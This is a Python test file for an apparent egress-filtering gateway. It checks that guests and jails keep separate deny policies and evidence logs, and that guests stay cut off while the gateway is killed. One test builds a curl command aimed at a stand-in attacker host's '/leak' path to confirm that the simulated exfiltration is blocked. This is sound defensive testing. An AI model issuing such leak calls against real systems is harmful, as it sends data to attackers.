"""`egressguard gateway`: guests beside jails, and what becomes of guests when it is killed."""

from __future__ import annotations

import json
import sys
import time
from typing import Any

import pytest

from tests.lab import Lab, gateways, world
from tests.lab.host_files import BUNDLE
from tests.lab.programs import JAIL_ENVIRONMENT, Terminal

pytestmark = [pytest.mark.lab, pytest.mark.timeout(240)]

_ENTER = """
import os, sys
from pathlib import Path
from interceptor.gateway.client import Gateway
from netns import namespaces
added = Gateway(Path(sys.argv[1], "gateway.sock")).enter(sys.argv[2])
Path(f"/tmp/{sys.argv[2]}.pem").write_text(added.certificate)
namespaces.enter(added.namespace, None)
os.execvp("sh", ["sh", "-c", sys.argv[3]])
"""


def _policy(lab: Lab, name: str) -> str:
    path = f"/etc/policy-{name}.yaml"
    lab.path(path).write_text(
        f"version: 1\nupstream: {{ca_file: {BUNDLE}}}\n"
        f"hosts: {{deny: [denied-{name}.example.com]}}\n"
    )
    return path


def _in_guest(lab: Lab, run: str, name: str, script: str) -> Terminal:
    command = [sys.executable, "-c", _ENTER, run, name, script]
    return lab.popen(command, env=JAIL_ENVIRONMENT)


def _events(lab: Lab, path: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in lab.path(path).read_text("utf-8").splitlines()]


def _until(condition: Any, what: str) -> None:
    end = time.monotonic() + 60
    while not condition():
        assert time.monotonic() < end, what
        time.sleep(0.1)


def test_two_guests_and_three_jails_know_nothing_of_each_other(clean_lab: Lab) -> None:
    lab = clean_lab
    guests, jails = ["guest-a", "guest-b"], ["jail-c", "jail-d", "jail-e"]
    asked = " ".join(f"https://denied-{name}.example.com/" for name in (*guests, *jails))
    script = (
        "for url in {asked}; do curl -sk --max-time 20 $url > /dev/null; done;"
        " curl -sk --max-time 20 https://www.example.com/get?n={name} > /dev/null"
    )
    with gateways.running(lab, "/run/gateway-many") as run:
        evidence, programs = {}, []
        for name in guests:
            path = evidence[name] = f"/run/gateway-many/{name}.jsonl"
            gateways.do(lab, "gateway", "add", name, "--policy", _policy(lab, name),
                        "--evidence", path, "--run", run)  # fmt: skip
            programs.append(_in_guest(lab, run, name, script.format(asked=asked, name=name)))
        for name in jails:
            path = evidence[name] = f"/run/gateway-many/{name}.jsonl"
            options = ("--policy", _policy(lab, name), "--evidence", path, "--name", name, "-q")
            command = ["sh", "-c", script.format(asked=asked, name=name)]
            jail = lab.jail_command(command, *options)
            programs.append(lab.popen(jail, env=JAIL_ENVIRONMENT))
        for program in programs:
            _, said = program.communicate(timeout=120)
            assert program.returncode == 0, said
        shown = gateways.do(lab, "gateway", "list", "--json", "--run", run)
        states = {state["guest"]["name"]: state for state in json.loads(shown)}
        assert all(states[name]["refused"] >= 1 for name in guests)
        for name, path in evidence.items():
            events = _events(lab, path)
            assert {event["jail"] for event in events} == {name}
            assert [event["seq"] for event in events] == list(range(1, len(events) + 1))
            denied = {e["host"] for e in events if e.get("reason") == "host_denied"}
            assert denied == {f"denied-{name}.example.com"}
            paths = {event.get("path") for event in events if event.get("action") == "allow"}
            assert "/get?n=…" in paths  # whose it was says the web server, below
        for name in evidence:  # all but the one whose policy denies it
            assert len(lab.requests(f"denied-{name}.example.com")) == 4
        targets = {request.target for request in lab.requests("www.example.com")}
        assert targets == {f"/get?n={name}" for name in evidence}
        assert len({_events(lab, path)[0]["authority"] for path in evidence.values()}) == 5
        gateways.do(lab, "gateway", "remove", *guests, "--run", run)
        assert _events(lab, evidence["guest-a"])[-1]["event"] == "stopped"


def test_a_killed_gateway_leaves_guests_offline_and_serves_them_again(clean_lab: Lab) -> None:
    lab = clean_lab
    attacker = world.ATTACKER[0]
    evidence = "/run/gateway-killed/guest.jsonl"
    load = "while :; do curl -sk --max-time 5 https://www.example.com/get?n=load > /dev/null; done"
    dial = f"curl -s --max-time 5 http://{attacker}/leak -o /dev/null; echo $?"
    with gateways.running(lab, "/run/gateway-killed") as run:
        gateways.do(lab, "gateway", "add", "guest", "--policy", _policy(lab, "guest"),
                    "--evidence", evidence, "--run", run)  # fmt: skip
        with _in_guest(lab, run, "guest", load) as busy:
            # Enters now, dials when the file is there: nobody could let it in later.
            waits = f"while [ ! -e /tmp/killed ]; do sleep 0.1; done; {dial}"
            with _in_guest(lab, run, "guest", waits) as dialler:
                _until(lambda: len(lab.requests()) > 3, "no load arrives")
                pem = lab.path("/tmp/guest.pem").read_text("ascii")
                state = json.loads(gateways.do(lab, "gateway", "status", "--json", "--run", run))
                pids = [str(state["pid"]), *(str(worker["pid"]) for worker in state["workers"])]
                lab.run(["kill", "-9", pids[0]])
                _until(lambda: lab.run(["kill", "-0", *pids]).returncode, "a worker lives on")
                time.sleep(0.2)
                arrived = len(lab.requests())
                lab.path("/tmp/killed").write_text("")
                assert dialler.communicate(timeout=60)[0] == b"7\n"  # curl: failed to connect
            assert len(lab.requests()) == arrived
            assert not lab.oracle.records()
            assert lab.run(["sh", "-c", dial]).stdout == b"0\n"  # the control reaches it
            assert lab.requests() or lab.dials(attacker)
            lab.clear()
            with gateways.running(lab, "/run/gateway-killed") as run:
                _until(lambda: lab.requests(), "the load does not come back")
                check = "curl -s --cacert /tmp/guest.pem https://www.example.com/get?n=back"
                lab.path("/tmp/guest.pem").unlink()
                with _in_guest(lab, run, "guest", check) as again:
                    assert b"back" in again.communicate(timeout=60)[0]
                assert lab.path("/tmp/guest.pem").read_text("ascii") == pem
                busy.kill()
                state = json.loads(gateways.do(lab, "gateway", "status", "--json", "--run", run))
                lab.run(["kill", "-9", str(state["workers"][0]["pid"])])
                _until(lambda: "worker" in {e.get("cause") for e in _events(lab, evidence)},
                       "the worker does not come back")  # fmt: skip
                gateways.do(lab, "gateway", "remove", "guest", "--run", run)
    events = _events(lab, evidence)
    assert [e["cause"] for e in events if e["event"] == "resumed"] == ["restart", "worker"]
    assert [event["seq"] for event in events] == list(range(1, len(events) + 1))
    assert len({e["authority"] for e in events if e["event"] in ("started", "resumed")}) == 1
    assert not lab.oracle.records()
